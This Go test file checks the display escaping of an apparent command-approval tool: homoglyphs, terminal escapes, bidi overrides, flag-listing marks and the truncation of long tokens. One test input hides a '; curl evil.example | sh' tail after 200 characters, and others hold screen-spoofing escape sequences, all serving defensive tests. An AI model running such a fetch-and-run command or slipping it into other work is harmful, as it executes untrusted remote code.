package requests

import (
	"slices"
	"strings"
	"testing"

	"github.com/wraptool/wraptool/policy"
)

func TestDisplay(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name, in, token, text string
	}{
		{"plain", "--force-with-lease", "--force-with-lease", "--force-with-lease"},
		{"a homoglyph is escaped in a token, kept in text", "gіthub", `g\u0456thub`, "gіthub"},
		{"a terminal escape cannot repaint the screen", "ok\x1b[2J\x1b[Hfake", `ok\x1b[2J\x1b[Hfake`, `ok\x1b[2J\x1b[Hfake`},
		{"a right-to-left override", "abc\u202edcba", `abc\u202edcba`, `abc\u202edcba`},
		{"line separators", "a\u2028b\u2029c", `a\u2028b\u2029c`, "a b c"},
		{"a carriage return", "real\rfake", `real\rfake`, "real fake"},
		{"a zero-width space", "git\u200bhub", `git\u200bhub`, `git\u200bhub`},
		{"invalid UTF-8", "a\xffb", `a\xffb`, `a\xffb`},
		{"a typed escape cannot pass for a real one", `g\u0456thub`, `g\\u0456thub`, `g\\u0456thub`},
		{"whitespace runs collapse in text", "two\n\n  lines\tand tabs", `two\n\n  lines\tand tabs`, "two lines and tabs"},
		{"quotes stay", `it's "quoted"`, `it's "quoted"`, `it's "quoted"`},
	} {
		if got := Token(tc.in); got != tc.token {
			t.Errorf("%s: Token(%q) = %q, want %q", tc.name, tc.in, got, tc.token)
		}
		if got := Text(tc.in); got != tc.text {
			t.Errorf("%s: Text(%q) = %q, want %q", tc.name, tc.in, got, tc.text)
		}
	}
	long := strings.Repeat("x", 250)
	if got, want := Token(long), strings.Repeat("x", 200)+"…(250 bytes)"; got != want {
		t.Errorf("a long token: %q, want %q", got, want)
	}
	if got := Flags([]string{"--a", "--b\x1b"}); got != `--a --b\x1b` {
		t.Errorf("Flags = %q", got)
	}
}

// TestCommand shows an exact command line rendered so it splits back into
// its tokens: tokens with spaces or shell characters Go-quoted, hostile ones
// escaped as Token escapes them.
func TestCommand(t *testing.T) {
	t.Parallel()
	cases := []struct {
		tokens []string
		want   string
	}{
		{[]string{"git", "push", "--force", "origin", "main"}, "git push --force origin main"},
		{[]string{"git", "commit", "-m", "two words"}, `git commit -m "two words"`},
		{[]string{"echo", "", "a;b", "$HOME", `it's`}, `echo "" "a;b" "$HOME" "it's"`},
		{[]string{"git", "push", "g\u0456thub"}, `git push "g\u0456thub"`},
		{[]string{"x", "a\nb"}, `x "a\nb"`},
	}
	for _, tc := range cases {
		if got := Command(tc.tokens); got != tc.want {
			t.Errorf("Command(%q) = %s, want %s", tc.tokens, got, tc.want)
		}
	}
}

// pushHelps knows git push's help (listing --tags) and git's own (listing
// --version), nothing else.
type pushHelps struct{}

func (pushHelps) Flag(tool string, sub []string, flag string) (policy.FlagHelp, bool) {
	key := strings.Join(append([]string{tool}, sub...), " ")
	return policy.FlagHelp{}, key == "git push" && flag == "--tags" || key == "git" && flag == "--version"
}
func (pushHelps) Description(string, []string) string  { return "" }
func (pushHelps) ShortHelpTaken(string, []string) bool { return false }
func (pushHelps) Subcommands(tool string, sub []string) (map[string]string, bool) {
	key := strings.Join(append([]string{tool}, sub...), " ")
	return nil, key == "git push" || key == "git"
}

// Every screen marks an unlisted flag the same way, the help's command
// escaped as every token is; where the help is unknown, every flag is
// marked HELP UNKNOWN.
func TestMarks(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name          string
		helps         policy.Helps
		tool          string
		sub, flags    []string
		marked        string // MarkedFlags
		unlisted      []string
		listing       policy.Listing
		refusalReason string // part of UnlistedRefusal; "" when nothing is unlisted
	}{
		{"listed flags are not marked", pushHelps{}, "git", []string{"push"}, []string{"--tags"},
			"--tags", nil, policy.Listed, ""},
		{"a prefix of a listed flag is NOT IN", pushHelps{}, "git", []string{"push"}, []string{"--tags", "--rece"},
			"--tags --rece (NOT IN 'git push --help')", []string{"--rece"}, policy.NotListed,
			"--rece (NOT IN 'git push --help'): the help does not list it"},
		{"every flag of a subcommand whose help is unknown is HELP UNKNOWN", pushHelps{}, "git", []string{"fetch"}, []string{"--prune", "--all"},
			"--prune (HELP UNKNOWN for 'git fetch') --all (HELP UNKNOWN for 'git fetch')", []string{"--prune", "--all"}, policy.HelpUnknown,
			"--prune --all (HELP UNKNOWN for 'git fetch'): the subcommand's help is not known, so no flag counts as listed"},
		{"with no helps at all a flag the help would list is HELP UNKNOWN", nil, "git", []string{"push"}, []string{"--tags"},
			"--tags (HELP UNKNOWN for 'git push')", []string{"--tags"}, policy.HelpUnknown, "--tags (HELP UNKNOWN for 'git push')"},
		{"an empty subcommand names the tool's own help", pushHelps{}, "git", nil, []string{"--version", "--vers"},
			"--version --vers (NOT IN 'git --help')", []string{"--vers"}, policy.NotListed, "--vers (NOT IN 'git --help')"},
		{"the tool and subcommand are escaped in the mark", pushHelps{}, "gіt\x1b[2J", []string{"pu\u202esh"}, []string{"--x\r"},
			`--x\r (HELP UNKNOWN for 'g\u0456t\x1b[2J pu\u202esh')`, []string{"--x\r"}, policy.HelpUnknown,
			`--x\r (HELP UNKNOWN for 'g\u0456t\x1b[2J pu\u202esh')`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			if got := MarkedFlags(tc.helps, tc.tool, tc.sub, tc.flags); got != tc.marked {
				t.Errorf("MarkedFlags = %q, want %q", got, tc.marked)
			}
			unlisted, l := Unlisted(tc.helps, tc.tool, tc.sub, tc.flags)
			if !slices.Equal(unlisted, tc.unlisted) || l != tc.listing {
				t.Errorf("Unlisted = %q, %v; want %q, %v", unlisted, l, tc.unlisted, tc.listing)
			}
			if tc.refusalReason == "" {
				return
			}
			got := UnlistedRefusal("req_0123abcd", tc.tool, tc.sub, unlisted, l, "--unlisted-ok")
			if !strings.HasPrefix(got, "not approved, req_0123abcd stays pending: ") || !strings.Contains(got, tc.refusalReason) ||
				!strings.HasSuffix(got, "approve with --unlisted-ok if you are sure") {
				t.Errorf("UnlistedRefusal = %q, want it to hold %q", got, tc.refusalReason)
			}
		})
	}
}

// Whole says whether every screen shows a token uncut, in Token's form and
// in Command's (which may quote it): one click must not allow a tail
// nobody saw.
func TestWhole(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name string
		in   string
		want bool
	}{
		{"a short token", "origin", true},
		{"200 plain characters", strings.Repeat("a", 200), true},
		{"201 plain characters", strings.Repeat("a", 201), false},
		{"200 characters a shell would need quoted", strings.Repeat("a", 199) + ";", false},
		{"escapes count as what the screen shows", strings.Repeat("\u202e", 40), false},
		{"a hidden tail after 200 characters", strings.Repeat("a", 200) + "; curl evil.example | sh", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			if got := Whole(tc.in); got != tc.want {
				t.Errorf("Whole(%d bytes) = %v, want %v (Token %q, Command %q)", len(tc.in), got, tc.want, Token(tc.in), Command([]string{tc.in}))
			}
			if whole := !strings.Contains(Token(tc.in)+Command([]string{tc.in}), "…("); whole != tc.want {
				t.Errorf("the screens cut it: %v, want cut %v", !whole, !tc.want)
			}
		})
	}
}
